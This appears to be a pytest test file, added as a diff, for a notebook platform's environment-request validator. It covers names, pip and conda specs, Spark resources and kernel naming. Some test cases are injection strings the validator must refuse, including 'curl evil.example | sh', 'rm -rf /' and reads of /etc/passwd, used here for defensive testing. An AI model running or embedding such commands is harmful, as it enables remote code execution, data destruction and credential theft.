@@ -1,0 +1,163 @@
+"""Environment requests: validation of every field, Spark settings, names (no stack needed)."""
+from __future__ import annotations
+
+import pytest
+
+from yardlab.edge.auth import Identity
+from yardlab.edge.environments import EnvironmentService, FieldError, kernel_name_for
+from yardlab.edge.ledger import KernelLedger
+
+ALICE = Identity(name="alice", admin=False, groups=("analysts",))
+ADMIN = Identity(name="admin", admin=True)
+
+
+class _Snapshot:
+    cluster = {"queues": [{"name": "default", "path": "root.default", "leaf": True},
+                          {"name": "interactive", "path": "root.interactive", "leaf": True},
+                          {"name": "root", "path": "root", "leaf": False}]}
+
+
+@pytest.fixture
+def svc(tmp_path):
+    ledger = KernelLedger(db_url=f"sqlite:///{tmp_path / 'db.sqlite'}")
+    return EnvironmentService(ledger, storage=None, snapshot=_Snapshot(), audit=None, kernels_dir=str(tmp_path / "k"),
+                              builds_dir=str(tmp_path / "b"), conda_channels=["file:///srv/conda/local"])
+
+
+def body(**over):
+    base = {"name": "tab", "kind": "pyspark", "packages": {"pip": ["tabulate==0.9.0"]}}
+    base.update(over)
+    return base
+
+
+def refused(svc, who, b) -> FieldError:
+    with pytest.raises(FieldError) as info:
+        svc.parse_request(who, b)
+    return info.value
+
+
+def test_a_good_request_is_normalised_with_site_defaults(svc):
+    req = svc.parse_request(ALICE, body(resources={"executor_memory_mb": 2048, "queue": "interactive"}))
+    assert req["packages"] == {"pip": ["tabulate==0.9.0"], "conda": []}
+    assert req["resources"]["executor_memory_mb"] == 2048
+    assert req["resources"]["driver_memory_mb"] == svc.defaults["driver_memory_mb"]
+    assert req["resources"]["queue"] == "interactive"
+    assert req["visibility"] == "personal" and req["display_name"] == "tab"
+
+
+@pytest.mark.parametrize("name", ["Tab", "1tab", "tab_x", "../x", "a" * 41, "", "tab/../../etc", None, 7])
+def test_bad_names_are_refused(svc, name):
+    err = refused(svc, ALICE, body(name=name))
+    assert err.status == 400 and err.field == "name"
+
+
+@pytest.mark.parametrize("spec,words", [
+    ("-r /etc/passwd", "options"),
+    ("--index-url=http://evil.example/simple", "options"),
+    ("-e git+https://github.com/x/y", "options"),
+    ("-c constraints.txt", "options"),
+    ("https://evil.example/pkg.whl", "URLs"),
+    ("git+https://github.com/x/y", "URLs"),
+    ("./local/pkg", "URLs"),
+    ("/tmp/pkg.whl", "URLs"),
+    ("pkg @ https://evil.example/pkg.whl", "URLs"),
+    ("pkg @ file:///etc/passwd", "URLs"),
+    ("tabulate; rm -rf /", "PEP 508"),
+    ("tabulate && curl evil.example | sh", "PEP 508"),
+    ("tabulate $(id)", "PEP 508"),
+    ("tabulate\n--index-url http://evil.example", "control character"),
+    ("x" * 300, "longer than"),
+])
+def test_pip_injection_and_non_index_sources_are_refused(svc, spec, words):
+    err = refused(svc, ALICE, body(packages={"pip": [spec]}))
+    assert err.status == 400 and err.field == "packages.pip[0]"
+    assert words in err.message
+
+
+def test_pip_duplicates_and_too_many_are_refused(svc):
+    assert "twice" in refused(svc, ALICE, body(packages={"pip": ["Tabulate", "tabulate==0.9"]})).message
+    err = refused(svc, ALICE, body(packages={"pip": [f"p{i}" for i in range(svc.max_packages + 1)]}))
+    assert err.field == "packages.pip"
+
+
+@pytest.mark.parametrize("spec,words", [
+    ("conda-forge::numpy", "not one of this site's channels"),
+    ("https://evil.example/channel::numpy", "not one of this site's channels"),
+    ("/tmp/evil.tar.bz2", "URLs and local paths"),
+    ("numpy; rm -rf /", "not a conda match spec"),
+    ("--override-channels", "not a conda match spec"),
+])
+def test_conda_specs_from_other_channels_or_paths_are_refused(svc, spec, words):
+    err = refused(svc, ALICE, body(packages={"conda": [spec]}))
+    assert err.field == "packages.conda[0]" and words in err.message
+
+
+def test_conda_specs_of_the_configured_channel_pass(svc):
+    req = svc.parse_request(ALICE, body(packages={"conda": ["local::yardlab-hello>=1", "zlib 1.3.*"]}))
+    assert req["packages"]["conda"] == ["local::yardlab-hello>=1", "zlib 1.3.*"]
+
+
+def test_conda_is_refused_when_no_channel_is_configured(svc):
+    svc.conda_channels = []
+    assert "no conda channels" in refused(svc, ALICE, body(packages={"conda": ["zlib"]})).message
+
+
+@pytest.mark.parametrize("resources,field", [
+    ({"executor_memory_mb": 999999}, "resources.executor_memory_mb"),
+    ({"executor_memory_mb": 100}, "resources.executor_memory_mb"),
+    ({"driver_cores": 0}, "resources.driver_cores"),
+    ({"executor_instances": "2"}, "resources.executor_instances"),
+    ({"executor_instances": True}, "resources.executor_instances"),
+    ({"dynamic_allocation": {"min": 3, "max": 1}}, "resources.dynamic_allocation"),
+    ({"dynamic_allocation": {"min": 0, "max": 99}}, "resources.dynamic_allocation"),
+    ({"queue": "nope"}, "resources.queue"),
+    ({"queue": "default; rm -rf /"}, "resources.queue"),
+    ({"gpus": 4}, "resources.gpus"),
+])
+def test_resources_outside_the_site_limits_are_refused(svc, resources, field):
+    err = refused(svc, ALICE, body(resources=resources))
+    assert err.field == field and err.status == 400
+
+
+def test_queues_are_limited_per_group(svc):
+    svc.allowed_queues = {"*": ["default"], "analysts": ["interactive"]}
+    assert svc.parse_request(ALICE, body(resources={"queue": "interactive"}))["resources"]["queue"] == "interactive"
+    bob = Identity(name="bob", admin=False)
+    err = refused(svc, bob, body(resources={"queue": "interactive"}))
+    assert err.status == 403 and err.field == "resources.queue"
+
+
+def test_only_admins_share(svc):
+    err = refused(svc, ALICE, body(visibility="shared"))
+    assert err.status == 403 and err.field == "visibility"
+    assert svc.parse_request(ADMIN, body(visibility="shared"))["visibility"] == "shared"
+
+
+def test_unknown_fields_and_non_objects_are_refused(svc):
+    assert refused(svc, ALICE, body(owner="bob")).field == "owner"
+    assert refused(svc, ALICE, ["tab"]).field is None
+    assert refused(svc, ALICE, body(packages={"npm": ["x"]})).field == "packages"
+    assert refused(svc, ALICE, body(display_name="x\u0000y")).field == "display_name"
+
+
+def test_spark_settings_carry_resources_queue_and_archive(svc):
+    env = {"kind": "pyspark", "archive": "ab" * 32,
+           "resources": {"driver_memory_mb": 1024, "driver_cores": 1, "executor_memory_mb": 2048,
+                         "executor_cores": 2, "executor_instances": 3, "dynamic_allocation": None,
+                         "queue": "interactive"}}
+    conf = svc.spark_conf(env)
+    assert conf["spark.yarn.queue"] == "interactive"
+    assert conf["spark.executor.memory"] == "2048m" and conf["spark.executor.instances"] == "3"
+    assert conf["spark.yarn.dist.archives"] == f"hdfs:///yardlab/envs/{'ab' * 32}.tar.gz#env"
+    assert conf["spark.executorEnv.PYSPARK_PYTHON"] == "./env/bin/python"
+    env["resources"]["dynamic_allocation"] = {"min": 0, "max": 4}
+    conf = svc.spark_conf(env)
+    assert "spark.executor.instances" not in conf and conf["spark.dynamicAllocation.maxExecutors"] == "4"
+    env["kind"] = "python"
+    assert "spark.executor.memory" not in svc.spark_conf(env)
+
+
+def test_kernel_names_are_readable_and_unique():
+    assert kernel_name_for("alice", "tab") == "yl-alice-tab"
+    assert kernel_name_for("a.b@x", "tab") != kernel_name_for("a-b-x", "tab")
+    assert kernel_name_for("A", "tab") != kernel_name_for("a", "tab")
